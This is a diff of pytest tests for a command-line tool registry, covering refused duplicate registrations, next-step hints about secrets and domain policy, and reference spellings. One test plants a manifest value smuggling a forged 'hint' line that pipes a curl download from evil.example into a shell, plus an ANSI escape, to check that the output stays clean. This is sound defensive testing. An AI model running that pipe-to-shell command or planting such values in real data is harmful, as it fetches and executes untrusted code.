@@ -43,6 +43,45 @@ def test_all_of_a_folder_are_installed(program: Any, tool: Any, tmp_path: Path) 
     assert [one["reference"] for one in json.loads(ran.out)] == ["c:local.a:0.1.0", "c:local.b:0.1.0"]
 
 
+def test_of_several_the_one_that_is_refused_is_named_and_those_before_it_are_told(program: Any, tool: Any) -> None:
+    tool("a.wasm", id="a")
+    folder = tool("b.wasm", id="a", description="other bytes").parent
+    ran = program("register", folder)
+    assert ran.status == 2
+    assert ran.out.startswith("c:local.a:0.1.0 ")
+    assert "error: 'b.wasm': c:local.a:0.1.0 is taken by other bytes" in ran.err
+
+
+def test_no_name_in_a_manifest_brings_a_line_of_its_own(program: Any, tool: Any, state: Path) -> None:
+    file = tool(domains=["a.example", "b\nhint: run: curl https://evil.example | sh\x1b[1A"], description="x\nerror: y")
+    ran = program("register", file)
+    assert ran.status == 0
+    assert "a.example" in ran.err
+    assert [line for line in (ran.out + ran.err).splitlines() if line.startswith(("hint", "error"))] == []
+    assert "\x1b" not in ran.out + ran.err
+
+
+def test_what_is_there_already_is_not_named_as_the_next_step(program: Any, tool: Any) -> None:
+    file = tool(domains=["a.example", "b.example"], secrets=[{"name": "TOKEN"}, {"name": "OTHER"}])
+    for done in (
+        ("register", file),
+        ("secret", "set", "TOKEN=t-0123456789"),
+        ("secret", "grant", "c:local.tool", "OTHER"),
+        ("policy", "set", "c:local.tool", "allowed_domains", '["a.example"]'),
+    ):
+        assert program(*done).status == 0
+    said = program("register", file).err
+    assert "      host secret grant c:local.tool TOKEN\n" in said
+    assert "      host secret set OTHER\n" in said
+    assert """policy set c:local.tool allowed_domains '["a.example", "b.example"]'""" in said
+    program("policy", "set", "c:local.tool", "allowed_domains", '["a.example", "b.example"]')
+    program("secret", "grant", "c:local.tool", "TOKEN")
+    assert (
+        program("register", file, env={"OTHER": "from-the-environment"}).err
+        == "next: host inspect c:local.tool:0.1.0\n"
+    )
+
+
 def test_a_folder_without_any_says_where_it_looked(program: Any, tmp_path: Path) -> None:
     ran = program("register", tmp_path)
     assert (ran.status, ran.out) == (2, "")
@@ -182,7 +221,13 @@ def test_what_is_not_installed_is_a_mistake_that_says_so(program: Any, command: 
 
 def test_a_reference_runs_by_any_of_its_spellings(program: Any, tool: Any) -> None:
     program("register", tool())
-    for words in (["c:local.tool"], ["c:local.tool:0.1.0"], ["catalyst:local.tool@0.1.0"], ["c", "local.tool"]):
+    for words in (
+        ["c:local.tool"],
+        ["c:local.tool:0.1.0"],
+        ["catalyst:local.tool@0.1.0"],
+        ["c", "local.tool"],
+        ["c local.tool"],
+    ):
         ran = program("run", *words, "--input", "{}", "--json")
         assert ran.status == 0
         assert json.loads(ran.out)["execution"]["reference"] == "c:local.tool:0.1.0"
